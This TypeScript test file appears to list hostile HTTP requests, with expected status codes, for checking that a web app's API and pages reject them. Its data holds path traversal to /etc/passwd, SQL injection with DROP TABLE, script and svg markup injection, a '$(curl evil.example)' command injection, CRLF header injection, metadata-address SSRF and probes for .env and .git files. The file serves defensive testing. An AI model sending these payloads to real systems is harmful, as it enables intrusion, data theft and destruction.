import { MARK } from './safe-reply.ts'
import { get, type HostileRequest } from './row.ts'

const long = (length: number) => 'a'.repeat(length)

/** What is no id, whatever it stands for. */
const NO_IDS: [name: string, target: string][] = [
  ['traversal', '..%2f..%2f..%2fetc%2fpasswd'],
  ['traversal', '..%5c..%5cwindows%5cwin.ini'],
  ['traversal, encoded twice', '%252e%252e%252fetc%252fpasswd'],
  ['traversal by an overlong letter', '..%c0%af..%c0%afetc'],
  ['traversal with dots between', '....%2f%2f....%2f%2fetc'],
  ['a zero byte', 'cs_0123456789%00.mp4'],
  ['line breaks', `cs_0123456789%0d%0aSet-Cookie:%20a=b`],
  ['a line break at the end', 'cs_0123456789%0a'],
  ['half an escape', 'cs_0123456789%'],
  ['no escape', 'cs_0123456789%zz'],
  ['no UTF-8', 'cs_0123456789%ff%fe'],
  ['half a surrogate', 'cs_0123456789%ed%a0%80'],
  ['a turn of direction', 'cs_0123456789%e2%80%ae4pm'],
  ['no width', 'cs_0123456789%e2%80%8b'],
  ['full width', '%ef%bd%83%ef%bd%93_0123456789'],
  ['Cyrillic letters', '%d1%81s_0123456789'],
  ['a letter that NFKC changes', 'cs_0123456789%ef%ac%81'],
  ['SQL', "cs_0123456789'%20OR%20'1'='1"],
  ['SQL', "cs_0';DROP%20TABLE%20generations;--"],
  ['SQL', 'cs_0%22%20UNION%20SELECT%20*%20FROM%20generations--'],
  ['a LIKE pattern', 'cs_%25'],
  ['a LIKE pattern', '%25%25%25%25%25%25%25%25%25%25%25'],
  ['a GLOB pattern', 'cs_*********'],
  ['markup', `%3Cscript%20src=%2f%2f${MARK}%3E%3C%2fscript%3E`],
  ['markup', `%22%3E%3Csvg%20onload=location='%2f%2f${MARK}'%3E`],
  ['an address', `https:%2f%2f${MARK}%2fvideo.mp4`],
  ['a template', '%7B%7B7*7%7D%7D$%7B7*7%7D%23%7B7*7%7D'],
  ['a command', '$(curl%20evil.example)%7Cid'],
  ['an object', '[object%20Object]'],
  ['16 kB', long(16_384)],
]

const ids = [
  ['/api/file/', ''],
  ['/api/generation/', ''],
  ['/api/generation/', '.atom'],
  ['/api/veo/jobs/', ''],
].flatMap(([path, end]) =>
  NO_IDS.map(([name, id]) =>
    get(name, `${path}${id}${end}`, 400, {
      Authorization: 'Bearer hostile-owner-0123456789-abcdef',
    }),
  ),
)

const lists = [
  ['none', ''],
  ['empties', ',,,,,,,,,,'],
  ['blanks', '%20,%09,%20'],
  ['21', Array.from({ length: 21 }, (_, index) => `file-012345678${index}`).join(',')],
  ['3,000', Array.from({ length: 3_000 }, (_, index) => `file-${10_000 + index}x`).join(',')],
  ['10,000 empties', ','.repeat(10_000)],
  ['one that is none', 'file-0123456789,%3Cb%3E'],
  ['an order among them', 'file-0123456789,cs_0123456789'],
  ['other commas', 'file-0123456789%ef%bc%8cfile-0123456780'],
  ['SQL', "file-0123456789')%20OR%20('1'='1"],
].map(([name, list]) => get(`a list of ids: ${name}`, `/api/files?ids=${list}`, 400))

const queries = [
  get('a list without its name', '/api/files', 400),
  get('a list under another name', '/api/files?ids[]=file-0123456789', 400),
  get('a list under another name', '/api/files?IDS=file-0123456789', 400),
  get('a list twice, of which one is none', '/api/files?ids=file-0123456789&ids=x', 400),
  get('a name of every object', '/api/files?__proto__=file-0123456789', 400),
  get('a name of every object', '/api/files?__proto__[ids]=file-0123456789', 400),
  get('a callback is not called', `/api/prices?callback=${MARK}`, 200),
  get('a query that nobody reads', `/api/health?next=//${MARK}&__proto__[ok]=0`, 200),
  get('another format is not given', `/api/prices?format=html&x=%3Cscript%3E${MARK}`, 200),
  get('16 kB of query that nobody reads', `/api/health?${long(16_384)}`, 200),
]

/** Addresses that somebody may guess. There is nothing at any of them. */
const nothing = [
  ...['/.env', '/.git/config', '/.dev.vars', '/wrangler.toml', '/package.json', '/_worker.js'],
  ...['/functions/api/[[path]].ts', '/migrations/0001_orders.sql', '/dist/server/entry.mjs'],
  ...['/server/entry.mjs', '/_image?href=http://169.254.169.254/', '/_server-islands/x'],
  ...['/_actions/x', '/en/../../package.json', '/en/%2e%2e/%2e%2e/package.json'],
  ...['/en/..%2f..%2fpackage.json', '/_astro/..%5c..%5cpackage.json'],
  ...['/api/%2e%2e/package.json', '/api/../.env', '/%61pi/health', '/API/health', '/api//health'],
  ...['/api/_image?href=http://169.254.169.254/', '/api/maintenance', '/api/admin', '/api/.env'],
  ...[
    '/api/health.json',
    '/api/health;a=b',
    '/api/health/%2e%2e',
    '/api/health%2f..',
    '/api/health%00',
  ],
  ...['/api/veo/jobs/a/b', '/api/webhooks', '/api/generation', '/api/file/'],
  ...[`/%3Cscript%20src=%2f%2f${MARK}%3E`, `/api/%3Cscript%20src=%2f%2f${MARK}%3E`],
].map((target) => get('nothing', target, 404))

const pages = [
  get('markup for an id, which the page does not hold', `/en/veo3-status/%3Cb%3E${MARK}`, 200),
  get(
    'markup for an id, which the page does not hold',
    `/en/file/%22%3E%3Csvg/onload=//${MARK}%3E`,
    200,
  ),
  get('markup for an error, which the page does not hold', `/en/?error=%3Cb%3E${MARK}`, 200),
  get('another language, of which there is no page', `/${MARK}/veo3-status/cs_0123456789`, 404),
  get('another language, of which there is no page', `/..%2f${MARK}/`, 404),
]

const redirects = [
  ...[`//${MARK}`, `//${MARK}/`, `//${MARK}/en`, `//${MARK}/index.html`, `/\\${MARK}/en`],
  ...[`/%5c${MARK}`, `/%09/${MARK}`, `/%2f%2f${MARK}`, `/api//${MARK}`, `///${MARK}//`],
].map((target) => get('a redirect to another site is not made', target, 404))

const returns = [
  get('a page to go on to is not obeyed', `/en/?returnTo=https://${MARK}&next=//${MARK}`, 200),
  get('the address of a folder is put right on this site', '//kiosk.test/%2f..', 308),
  get('the address of a folder is put right on this site', '/en', 308, { Host: MARK }),
]

export const TARGETS: HostileRequest[] = [
  ...ids,
  ...lists,
  ...queries,
  ...nothing,
  ...pages,
  ...redirects,
  ...returns,
]
